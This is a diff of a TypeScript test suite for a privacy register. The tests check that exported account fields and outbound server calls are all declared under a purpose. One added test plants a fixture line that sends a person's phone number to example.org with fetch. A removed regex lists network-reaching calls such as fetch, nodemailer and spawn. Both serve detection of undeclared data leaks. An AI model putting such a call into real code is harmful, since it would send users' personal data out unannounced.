@@ -7,16 +7,23 @@ import { PersonalData } from '#contract/accounts/accounts.ts';
 import { endpoints } from '#contract/endpoints.ts';
 import type { Endpoint } from '#contract/protocol/endpoint.ts';
 import { tables } from '#contract/purpose-tables.ts';
-import { exportedUnder, purposes, recipients, sendsNobody, shownBy } from '#contract/purposes.ts';
+import { purposes, recipients, shownBy } from '#contract/purposes.ts';
 import { duties } from '#contract/values/duty.ts';
 import { openingIn } from '../../server/platform/http/access.ts';
 import { keptOf } from '../../server/shared/backup/kept-tables.ts';
 import { listTables } from '../../server/shared/backup/snapshot.sql.ts';
 import { type FreshApp, freshApp } from '../harness/fresh-app.ts';
-import { isCode, isTest, readSourceTree } from '../harness/source-tree.ts';
+import { readSourceTree } from '../harness/source-tree.ts';
 import { readLocales } from './locales/words.ts';
 import { beginOfRegister, describePurposes } from './purposes/describe-purposes.ts';
-import { brokenPromises, fieldsWithoutPurpose, type TableEvidence, wrongColumns } from './purposes/register-rules.ts';
+import {
+  brokenPromises,
+  fieldsWithoutPurpose,
+  type TableEvidence,
+  wrongColumns,
+  wrongExports,
+  wrongRecipients,
+} from './purposes/register-rules.ts';
 
 const root = new URL('../..', import.meta.url).pathname;
 const files = readSourceTree(root);
@@ -111,25 +118,24 @@ test('a field that no purpose names is caught, also inside another', () => {
 });
 
 test('every part of the export of an account stands under a purpose', () => {
-  assert.deepEqual(Object.keys(exportedUnder).toSorted(), exported.filter((part) => part !== 'exportedAt').toSorted());
+  assert.deepEqual(wrongExports(exported), []);
+});
+
+test('a part of the export that no purpose names, and one that is gone, are caught', () => {
+  assert.deepEqual(wrongExports([...exported, 'bloodGroup']), ['bloodGroup is in no purpose']);
+  assert.deepEqual(wrongExports(exported.filter((part) => part !== 'nominee')), ['nominee is no part of the export']);
 });
 
 test('nothing of the server reaches outside but what the register names', () => {
-  const reaches =
-    /\bfetch\(|\bfrom 'nodemailer'|\brequest\b[^;]*from 'node:https?'|\bfrom 'node:(tls|dgram)'|\bspawn\(/;
-  const named = [...Object.values(recipients).map(({ sentBy }) => sentBy), ...sendsNobody];
-  const reaching = [...files]
-    .filter(([path, text]) => path.startsWith('server/') && isCode(path) && !isTest(path) && reaches.test(text))
-    .map(([path]) => path);
-  assert.deepEqual(
-    reaching.filter((path) => !named.includes(path as (typeof named)[number])),
-    [],
-  );
-  assert.deepEqual(
-    named.filter((path) => path !== 'office' && !reaching.includes(path)),
-    [],
-    'no such way out',
-  );
+  assert.deepEqual(wrongRecipients(files), []);
+});
+
+test('a file that reaches outside and stands in no purpose, and a recipient whom nothing reaches, are caught', () => {
+  const planted = 'server/nouns/events/tell-a-stranger.ts';
+  const fetching = new Map([...files, [planted, "await fetch('https://example.org', { body: person.phone });"]]);
+  assert.deepEqual(wrongRecipients(fetching), [`${planted} reaches outside and is in no purpose`]);
+  const gateway = recipients.messageGateway.sentBy;
+  assert.deepEqual(wrongRecipients(new Map([...files, [gateway, '']])), [`${gateway} reaches nobody`]);
 });
 
 test('who of the office sees a purpose is who can make the calls that show it', () => {
